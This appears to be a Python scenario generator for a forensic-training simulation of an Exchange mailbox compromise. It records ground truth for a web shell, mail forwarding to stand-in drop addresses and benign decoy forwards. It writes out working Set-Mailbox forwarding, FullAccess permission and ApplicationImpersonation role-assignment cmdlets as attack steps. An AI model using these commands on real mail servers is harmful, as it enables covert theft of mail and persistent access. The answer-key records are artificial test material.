"""The scenario ``forwarded-mail``: broken into, and then mail is sent on by settings; nobody reads a mailbox.

One mailbox by an inbox rule that somebody signed in as its owner made, one by its forwarding address, set by a cmdlet on the
server; of a third the rights are given away, and a role that opens all mailboxes. An owner and an administrator forward mail
too, to addresses of their own.
"""

from __future__ import annotations

from brokenseal.simulate import (
    address_book_shell,
    cmdlet_rows,
    directory_export,
    ecp_rows,
    exchange_management,
    mail_flow,
    web_shell,
    webmail,
)
from brokenseal.simulate.client_requests import Site
from brokenseal.simulate.clock import MINUTE, SECOND, iso
from brokenseal.simulate.draws import Draws
from brokenseal.simulate.evidence_tree import POWERSHELL_PROXY
from brokenseal.simulate.mail_forwards import Forward
from brokenseal.simulate.mail_truth import ForwardedTruth, SettingTruth
from brokenseal.simulate.organisation import ADMINISTRATOR_ACCOUNT, ADMINISTRATOR_SID, DOMAIN, User
from brokenseal.simulate.play import Play
from brokenseal.simulate.signed_in_theft import MailThief
from brokenseal.simulate.truth import Truth

DROP, SECOND_DROP = "archive@drop.example.net", "copies@drop.example.net"
_HELPER = "CORP\\svc.backup"
_FIRST, _SECOND = "203.0.113.91", "203.0.113.92"
_LIBRARY, _SHELL_CLIENT = "python-requests/2.25.1", "antSword/v2.1"


def forwarded_mail(play: Play) -> None:
    """All of it in the first half of the range, so that mail is sent on for the rest."""
    site, truth, draws, front = play.site, play.truth, play.draws, play.front
    first, second = play.intruder(_FIRST, _LIBRARY), play.intruder(_SECOND, _SHELL_CLIENT)
    url = f"/owa/auth/{draws.letters_and_digits(8)}.aspx"
    host, at = address_book_shell.plant(play, first, url, 400)
    at += draws.between(20 * SECOND, MINUTE)
    host.ask_who_and_where(web_shell.use(second, at, front, url, "POST") + address_book_shell.FIRST_STEP)
    one, another, third = play.victims()[0], play.victims()[-1], play.third_victim()
    made = MailThief(site, truth, draws, _SECOND, front).forward_mail(play.at(450), one, DROP)
    site.forwards.add(one.smtp, Forward(made, DROP, by_rule=True, of_intruder=True))
    truth.settings.append(SettingTruth(one.smtp, "inbox-rule", DROP, iso(made)))
    by_shell = (
        (460, another.smtp, "forwarding", SECOND_DROP, "Set-Mailbox", f'-Identity "{another.smtp}" '
         f'-ForwardingSmtpAddress "smtp:{SECOND_DROP}" -DeliverToMailboxAndForward "True"'),
        (470, third.smtp, "permission", _HELPER.lower(), "Add-MailboxPermission", f'-Identity "{third.smtp}" '
         f'-User "{_HELPER}" -AccessRights "FullAccess"'),
        (480, None, "role", _HELPER.lower(), "New-ManagementRoleAssignment", f'-Role "ApplicationImpersonation" '
         f'-User "{_HELPER}"'),
    )  # fmt: skip
    for thousandths, mailbox, what, to, cmdlet, parameters in by_shell:
        begun = web_shell.use(second, play.at(thousandths), front, url, "POST") + address_book_shell.FIRST_STEP
        ended = host.run_cmdlet(begun, cmdlet, parameters)
        truth.settings.append(SettingTruth(mailbox, what, to, iso(ended)))
        if what == "forwarding":
            site.forwards.add(another.smtp, Forward(ended, to, by_rule=False, of_intruder=True))
    _honest(play, [user for user in site.organisation.users if user not in (one, another, third)])
    for user in (one, another):
        # However short the range is, something comes that is sent on.
        mail_flow.receive(site, Draws(play.seed, "sent on", user.alias), play.at(490) + MINUTE, user)
    directory_export.write(site.tree, site.organisation, truth)


def _honest(play: Play, users: list[User]) -> None:
    """What people set for themselves and administrators for others, between what the intruder sets."""
    site, draws = play.site, Draws(play.seed, "honest settings")
    start, part = play.start, play.length // 1000
    for user in users[:1]:
        to = f"{user.alias}@example.org"
        rule = f"New-InboxRule.Name={ecp_rows.quoted('Home')}.ForwardTo={ecp_rows.quoted(to)}"
        made = webmail.make_rule(site, draws, play.front, start + 455 * part, user, rule)
        host = site.hosts[user.home.name]
        exchange_management.record_control_panel(host, made, rule, user.account, user.sid, is_admin=False)
        site.forwards.add(user.smtp, Forward(made, to, by_rule=True, of_intruder=False))
    for user in users[1:2]:
        to, at = f"{user.alias}@example.com", start + 465 * part
        call = cmdlet_rows.CmdletCall(
            cmdlet="Set-Mailbox",
            parameters=f'-Identity "{user.alias}@{DOMAIN}" -ForwardingSmtpAddress "smtp:{to}"',
            user=ADMINISTRATOR_ACCOUNT,
            sid=ADMINISTRATOR_SID,
            unique=draws.guid(),
            application="",
            is_admin=True,
        )
        row = cmdlet_rows.row(at, draws.guid(), play.front, site.organisation.build_at(at), call)
        site.tree.add(play.front, POWERSHELL_PROXY, at, row)
        exchange_management.record(site.hosts[play.front.name], at, call, exchange_management.REMOTE_SHELL)
        site.forwards.add(user.smtp, Forward(at, to, by_rule=False, of_intruder=False))


def note_forwarded(site: Site, truth: Truth) -> None:
    """Add up what the intruder's settings sent on, now that all days are written."""
    for one in sorted((each for each in site.forwards.sent if each.forward.of_intruder), key=lambda each: each.at):
        truth.note_forwarded(ForwardedTruth(one.mailbox, one.forward.to, iso(one.at), iso(one.at), 1, one.size))
